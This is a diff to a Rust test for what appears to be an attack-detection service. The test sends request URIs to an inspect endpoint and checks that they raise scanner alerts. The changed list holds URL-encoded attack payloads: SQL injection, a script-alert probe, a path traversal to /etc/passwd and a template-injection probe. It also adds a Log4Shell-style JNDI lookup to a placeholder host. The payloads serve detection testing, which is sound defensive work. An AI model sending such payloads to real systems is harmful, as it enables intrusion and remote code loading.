@@ -79,7 +79,7 @@ fn an_attack_that_an_agent_asks_about_is_an_alert_on_the_socket() {
     assert_eq!((&worked["severity"], &worked["entity"]["value"]), (&json!("high"), &json!("203.0.113.77")), "{worked:#}");
     assert!(worked["rule"]["techniques"].as_array().unwrap().contains(&json!("T1190")));
     // More kinds from the same address are a scanner.
-    for (n, uri) in ["/x?id=1%27%20or%20%271%27=%271", "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "/x?f=../../../etc/passwd", "/x?u=http://169.254.169.254/latest/meta-data/"].iter().enumerate() {
+    for (n, uri) in ["/x?id=1%27%20or%20%271%27=%271", "/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "/x?f=../../../etc/passwd", "/x?n=%7B%7B7*7%7D%7D", "/x?n=$%7Bjndi:ldap://h.example/a%7D"].iter().enumerate() {
         let body = question(uri, "203.0.113.77");
         let signature = api::sign_as_agent(id, secret, "POST", "/api/v1/inspect", &body, now, &format!("nonce-more-0123456{n}"));
         let status = client.agent.post(format!("{}/api/v1/inspect", server.url)).header("authorization", &signature).send(&body[..]).unwrap().status();
